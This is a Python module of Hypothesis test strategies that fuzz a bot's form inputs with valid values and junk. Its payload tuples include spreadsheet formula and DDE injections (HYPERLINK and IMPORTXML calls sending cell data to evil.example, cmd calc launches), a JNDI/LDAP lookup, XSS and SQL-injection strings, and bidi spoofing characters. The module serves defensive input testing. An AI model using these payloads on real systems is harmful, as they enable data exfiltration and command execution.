"""Hypothesis strategies for what a click or a message can carry: real values and junk.

Each card input gets values of its own kind (digits for a customer number, GSRN
lists for installation IDs, the card's own choices) mixed with junk that any
input may receive: wrong JSON types, 100 kB strings, control characters,
right-to-left marks, text that Excel or another spreadsheet would run as a
formula or a DDE command, lone surrogates. Big strings are built by repeating a
drawn piece: Hypothesis draws from a small buffer, and a 100 kB draw would be
refused as too large.
"""

from __future__ import annotations

from functools import cache
from typing import Any

from hypothesis import strategies as st

from cases import validation
from cases.triage import BACKOFFICE_MAX
from tests.cases.gsrn_helpers import make_gsrn, swedish, with_wrong_check

from .fields import Input

BIG = 100_000  # a whole document pasted into a field
MISSING = object()  # a field left out of the data

# Excel and LibreOffice run these as formulas or commands when a cell starts with them.
FORMULAS = (
    "=1+1", "+46 70 123 45 67", "-5012345", "@SUM(A1:A9)", "=SUM(1;2)",
    '=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")',
    "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@cmd|'/c notepad'!'A1'", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "\t=1+1", "\r=2+2", "=", "+", "-", "@",
)  # fmt: skip
# Bidirectional controls and invisible characters: a name that reads one way and is another.
BIDI = (
    "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
    "\u2066", "\u2067", "\u2068", "\u2069", "\u061c", "\u200b", "\u200d", "\ufeff",
)  # fmt: skip
CONTROLS = tuple(chr(c) for c in (*range(0x20), 0x7F, 0x85, 0x2028, 0x2029))
# No lone surrogates: the endpoint refuses a body holding one before any verb
# sees it (400 body_invalid_text, tests/bot/test_hostile_requests.py).
ODD = (
    "\ufffe", "\uffff", "\U0001f600", "ÅÄÖåäö", "١٢٣٤٥٦", "１２３４５６",
    "²³", "[länk](https://evil.example)", "<script>alert(1)</script>", "**fet**", "# Rubrik",
    "{{user}}", "${jndi:ldap://evil.example/a}", "' OR 1=1 --", "\\", "null", "NaN", "-0",
)  # fmt: skip
SPECIAL = (*FORMULAS, *BIDI, *CONTROLS, *ODD)

special = st.sampled_from(SPECIAL)
small_text = st.text(max_size=30)
piece = st.one_of(small_text, special)
# A mix of ordinary text and the nasty pieces, in any order.
mixed_text = st.lists(piece, max_size=8).map("".join)


class Big(str):
    """A long string that a failing example prints by its length and start only."""

    def __repr__(self) -> str:
        return f"<{len(self)} characters: {str.__repr__(self[:40])}...>"


@st.composite
def big_text(draw: st.DrawFn) -> str:
    unit = draw(st.one_of(st.text(min_size=1, max_size=12), special, st.just("7359991020000001")))
    size = draw(st.sampled_from([BIG, 28 * 1024, 10_001, 8_001, 1_001, 501]))
    return Big((unit * (size // len(unit) + 1))[:size])


json_scalar = st.one_of(
    st.none(), st.booleans(), st.integers(), st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
)  # fmt: skip
json_value = st.recursive(
    st.one_of(json_scalar, small_text),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(small_text, inner, max_size=4)
    ),
    max_leaves=10,
)

# -- values of each kind -------------------------------------------------------------

grouped_digits = st.builds(
    lambda number, sep, cut: number[:cut] + sep + number[cut:] if sep else number,
    st.text(alphabet="0123456789", min_size=4, max_size=12),
    st.sampled_from(["", " ", "\u00a0", "\u202f", "  "]),
    st.integers(1, 3),
)
numbers = st.one_of(
    grouped_digits,
    st.text(alphabet="0123456789", max_size=16),
    st.builds(
        lambda lead, n: lead + n,
        st.sampled_from(["=", "+", "-", "@", " ", "\t", "0"]),
        grouped_digits,
    ),
    st.integers(0, 10**13),
)


def free_text(max_length: int) -> st.SearchStrategy[str]:
    """Text that validates (not blank, within its length), nasty pieces included."""
    return st.builds(
        lambda lead, body: (lead + body)[:max_length],
        st.sampled_from(
            ["", "Kund ", "=", "+", "-", "@", '=HYPERLINK("https://evil.example")', "\u202e"]
        ),
        st.one_of(mixed_text, st.text(min_size=1, max_size=60)),
    ).filter(lambda text: validation.clean_text(text) != "")


valid_signatures = st.from_regex(r" ?[xX][a-zA-Z0-9]{1,11} ?", fullmatch=True)
signatures = st.one_of(
    valid_signatures,
    st.from_regex(r" ?[xX][a-z0-9]{0,14} ?", fullmatch=True),
    st.sampled_from(["xanna", "xbo", "xcia", "XANNA", "x", "xå", "anna", "x-anna", "x anna"]),
)

gsrn_body = st.integers(0, 10**8 - 1).map(lambda n: f"735999102{n:08d}")


@st.composite
def id_list(draw: st.DrawFn, valid: bool) -> str:
    """A pasted list of installation IDs; ``valid``: every entry a right GSRN (repeats allowed)."""
    good = st.one_of(gsrn_body.map(make_gsrn), st.integers(0, 30).map(swedish))
    entry = (
        good
        if valid
        else st.one_of(
            good,
            good.map(with_wrong_check),
            good.map(lambda g: g[:-1]),  # 17 digits
            good.map(lambda g: "=" + g),
            st.text(alphabet="0123456789", min_size=1, max_size=20),
            special,
        )
    )
    entries = draw(st.lists(entry, min_size=1, max_size=8))
    if entries and draw(st.booleans()):
        entries.append(entries[0])  # the same ID twice
    separators = draw(
        st.lists(
            st.sampled_from(["\n", ", ", ";", " ", "\t", "\r\n", ",,", "\u00a0"]),
            min_size=1,
            max_size=3,
        )
    )
    return "".join(e + separators[i % len(separators)] for i, e in enumerate(entries))


@cache
def _column(count: int, start: int) -> str:
    return "\n".join(swedish(start + i) for i in range(count))


# A large case's whole column of IDs pasted from Excel, one a line.
many_ids = st.builds(
    _column,
    st.sampled_from([50, 200, 400, 420, 700, 1_000]),
    st.integers(0, 20).map(lambda n: n * 1_000),
)


def valid_value(spec: Input) -> st.SearchStrategy[Any]:
    """A value the bot should accept for ``spec`` (by its id, kind and limits)."""
    if spec.choices:
        return st.sampled_from(spec.choices)
    if spec.kind == "Input.Number":
        return st.one_of(
            st.integers(BACKOFFICE_MAX + 1, validation.CHANGE_COUNT_MAX).map(str),
            st.integers(1, validation.CHANGE_COUNT_MAX).map(str),
        )
    if spec.id in ("customerNumber", "cabNumber"):
        return grouped_digits
    if spec.id in ("changedIds", "otherIds"):
        return st.one_of(id_list(True), id_list(True), id_list(True), many_ids)
    if spec.id == "signature":
        return valid_signatures
    return free_text(spec.max_length or validation.COMMENT_MAX)


def kind_value(spec: Input) -> st.SearchStrategy[Any]:
    """Values of the input's own kind, valid or not."""
    if spec.choices:
        return st.one_of(
            st.sampled_from(spec.choices), st.sampled_from(spec.choices).map(str.upper), small_text
        )
    if spec.kind == "Input.Number":
        return st.one_of(
            st.integers(-5, 20_000).map(str), st.integers(-5, 20_000),
            st.sampled_from(["16.0", "1e3", "1_000", "٢٠", "２０", "0x10", " 17 ", "", "16,5", "Infinity"]),
        )  # fmt: skip
    if spec.id in ("customerNumber", "cabNumber"):
        return numbers
    if spec.id in ("changedIds", "otherIds"):
        return id_list(False)
    if spec.id == "signature":
        return signatures
    return st.one_of(mixed_text, st.text(max_size=(spec.max_length or 100) + 5))


# Strategies are built once: building one anew for every draw cost more than drawing.
junk = st.one_of(json_value, mixed_text, big_text(), special)
made_up_ids = st.one_of(
    st.sampled_from(["SA-999999", "SA-000000", "SA-0", "sa-1", "SA-", "SA-00000١", "=SA-000001", "SA-" + "1" * 5_000]),
    small_text, junk, st.just(MISSING),
)  # fmt: skip
stale_versions = st.one_of(st.just("0" * 12), small_text, junk)


@cache
def field_value(spec: Input, happy: bool) -> st.SearchStrategy[Any]:
    if happy:
        return valid_value(spec)
    return st.one_of(valid_value(spec), kind_value(spec), kind_value(spec), junk, st.just(MISSING))


extra_key = st.one_of(
    small_text,
    st.sampled_from(
        ["caseId", "version", "view", "pending", "verb", "data", "__proto__", "constructor"]
    ),
)
